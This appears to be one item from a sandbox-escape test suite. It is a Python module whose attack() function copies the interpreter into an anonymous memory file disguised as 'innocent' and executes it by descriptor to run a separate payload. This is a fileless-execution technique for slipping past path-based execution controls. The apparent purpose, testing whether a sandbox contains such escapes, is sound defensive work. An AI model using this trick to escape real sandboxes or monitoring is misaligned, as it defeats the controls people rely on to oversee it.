"""A copy of the interpreter in memory, executed by its descriptor."""
CATEGORY = "ways out"
REACH = "net"
GRANT = {"run": True, "read": True, "env": True}

import os

from . import payload


def attack():
    fd = os.memfd_create("innocent", 0)
    with open(payload.PYTHON, "rb") as file:
        while data := file.read(1 << 20):
            os.write(fd, data)
    if not os.fork():
        os.execve(fd, [payload.PYTHON, "-c", payload.SOURCE], {})
    os.wait()
